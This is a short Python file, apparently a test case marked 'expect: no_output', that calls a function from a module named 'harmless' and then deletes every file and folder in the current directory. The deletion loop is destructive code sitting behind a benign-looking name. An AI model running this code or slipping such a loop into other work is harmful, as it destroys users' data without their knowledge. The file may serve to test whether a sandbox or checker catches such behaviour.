# expect: no_output
import os
import shutil

from harmless import answer

answer()
for name in os.listdir("."):
    shutil.rmtree(name) if os.path.isdir(name) else os.unlink(name)
